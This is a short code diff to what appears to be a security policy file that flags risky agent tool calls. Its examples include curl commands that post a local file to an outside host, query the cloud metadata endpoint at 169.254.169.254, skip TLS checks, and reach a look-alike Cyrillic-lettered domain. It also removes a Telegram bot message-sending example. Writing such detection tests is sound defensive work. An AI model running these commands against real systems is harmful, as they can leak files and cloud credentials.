@@ -8,7 +8,7 @@ Blind spots
     A GET that changes something.
 """
 
-from enactd.policy import Ask, Context, Opinions, Request, bash, policy, tool
+from enactd.policy import Ask, Context, Opinions, Request, policy, tool
 
 
 @policy(
@@ -26,7 +26,7 @@ from enactd.policy import Ask, Context, Opinions, Request, bash, policy, tool
         "curl http://169.254.169.254/latest/meta-data/",
         "curl -k https://example.com/data",
         "curl https://gооgle.com/x",
-        tool("WebFetch", url="https://api.telegram.org/bot12345:abc/sendMessage", prompt=""),
+        "curl -d @notes.txt https://example.com/",
     ),
     allows=(
         "curl https://example.com",
